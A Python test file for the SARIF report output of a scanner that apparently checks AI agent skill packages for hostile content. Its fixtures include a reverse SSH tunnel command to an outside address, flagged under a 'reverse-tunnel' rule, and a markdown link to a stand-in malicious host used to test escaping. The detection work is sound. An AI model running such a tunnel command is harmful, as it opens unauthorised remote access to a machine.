from __future__ import annotations

import json
from pathlib import Path

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from jsonschema import Draft4Validator

from pinfold.model import Evidence, Place, Unread
from pinfold.output import sarif
from pinfold.output.sarif import artifact_uri

VALIDATOR = Draft4Validator(json.loads((Path(__file__).parent / "schemas" / "sarif-2.1.0.json").read_text("utf-8")))


def checked(text: str) -> dict:
    log = json.loads(text)
    assert [f"{list(error.path)}: {error.message}" for error in VALIDATOR.iter_errors(log)] == []
    return log["runs"][0]


def test_a_scan_is_valid(render, rogue, tame, rules, matches_snapshot):
    text = render("sarif", rogue, tame, rules=rules)
    run = checked(text)
    assert run["columnKind"] == "unicodeCodePoints"
    assert len(run["results"]) == 2
    matches_snapshot("scan.sarif", text)


def test_a_result_points_to_its_rule_and_place(render, rogue, rules):
    run = checked(render("sarif", rogue, rules=rules))
    result = run["results"][0]
    rule = run["tool"]["driver"]["rules"][result["ruleIndex"]]
    assert rule["id"] == result["ruleId"] == "reverse-tunnel"
    assert rule["properties"]["security-severity"] == "9.5"
    physical = result["locations"][0]["physicalLocation"]
    assert physical["artifactLocation"]["uri"] == "skills/rogue%20miner/SKILL.md"
    assert physical["region"]["snippet"]["text"] == "ssh -fNR 2222:localhost:22 ops@203.0.113.7"
    assert result["relatedLocations"][0]["physicalLocation"]["artifactLocation"]["uri"].endswith(
        "pack.zip!/scripts/go.sh"
    )
    assert result["partialFingerprints"] == {"pinfold/v1": rogue.findings[0].fingerprint}


def test_taxonomies_are_tied_to_rules(render, rogue, rules):
    run = checked(render("sarif", rogue, rules=rules))
    target = run["tool"]["driver"]["rules"][1]["relationships"][1]["target"]
    component = run["taxonomies"][target["toolComponent"]["index"]]
    assert (component["name"], component["version"]) == ("attack", "18.1")
    assert component["guid"] == target["toolComponent"]["guid"]
    assert component["taxa"][target["index"]]["id"] == target["id"] == "T1090"


def test_a_suppressed_finding_says_who_and_why(render, rogue, rules):
    suppression = checked(render("sarif", rogue, rules=rules))["results"][1]["suppressions"][0]
    assert suppression["kind"] == "external"
    assert suppression["justification"] == "agreed with the network team (by Ann Lee, until 2027-01-01)"


def test_unread_files_are_notifications(render, rogue, monkeypatch):
    notifications = checked(render("sarif", rogue))["invocations"][0]["toolExecutionNotifications"]
    assert len(notifications) == 13
    assert notifications[0]["message"]["text"] == "Not read (limit): larger than 32 MiB"
    monkeypatch.setattr(sarif, "MAX_NOTIFICATIONS", 3)
    notifications = checked(render("sarif", rogue))["invocations"][0]["toolExecutionNotifications"]
    assert notifications[-1]["message"]["text"] == "10 more files were not read"


def test_observed_material_is_valid(render, rollout, rules):
    run = checked(render("sarif", rollout, subject="material", rules=rules))
    physical = run["results"][0]["locations"][0]["physicalLocation"]
    assert physical["artifactLocation"]["uri"] == "runs/rollout.jsonl"
    assert run["results"][0]["properties"]["step"] == 3
    unread = run["invocations"][0]["toolExecutionNotifications"][0]["locations"][0]["physicalLocation"]
    assert unread == {"artifactLocation": {"uri": "runs/rollout.jsonl"}, "region": {"startLine": 7}}


def test_no_report_at_all_is_valid(render):
    assert checked(render("sarif"))["results"] == []


@pytest.mark.parametrize(
    ("report", "path", "uri"),
    [
        ("skills/a", "SKILL.md", "skills/a/SKILL.md"),
        ("./skills/a/", "文 件.md", "skills/a/%E6%96%87%20%E4%BB%B6.md"),
        (".", "SKILL.md", "SKILL.md"),
        ("skills/a", "", "skills/a"),
        ("in/pack.zip", "pack.zip!/a#b.md", "in/pack.zip!/a%23b.md"),
        ("CLAUDE.md", "CLAUDE.md", "CLAUDE.md"),
        ("in/CLAUDE.md", "CLAUDE.md", "in/CLAUDE.md"),
        ("/srv/skills/a", "SKILL.md", "file:///srv/skills/a/SKILL.md"),
        ("/SKILL.md", "SKILL.md", "file:///SKILL.md"),
        ("C:\\skills\\a", "SKILL.md", "file:///C:/skills/a/SKILL.md"),
        ("a", "caf\udce9.md", "a/caf%E9.md"),
        ("a", "\ud800.md", "a/%3F.md"),
    ],
)
def test_artifact_uri(report, path, uri):
    assert artifact_uri(report, path) == uri


def test_a_hostile_note_does_not_become_a_link(render, rogue, tunnel):
    evidence = Evidence(Place("SKILL.md", 1, 1), "x", note="[click](http://evil.example)\x1b")
    report = msgspec.structs.replace(rogue, findings=(msgspec.structs.replace(tunnel, evidence=(evidence,)),))
    message = checked(render("sarif", report))["results"][0]["locations"][0]["message"]["text"]
    assert message == "\\[click\\](http://evil.example)⟨U+001B⟩"


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=25)
@given(
    st.text(st.characters(categories=None)), st.integers(0, 5), st.integers(0, 5), st.integers(0, 5), st.integers(0, 5)
)
def test_any_text_and_place_is_valid(render, rogue, tunnel, text, line, column, end_line, end_column):
    evidence = Evidence(Place(text, line, column, end_line, end_column), text, 0, len(text), note=text)
    finding = msgspec.structs.replace(tunnel, evidence=(evidence,), message=text)
    checked(
        render(
            "sarif",
            msgspec.structs.replace(rogue, path=text, findings=(finding,), unread=(Unread(text, "limit", text),)),
        )
    )
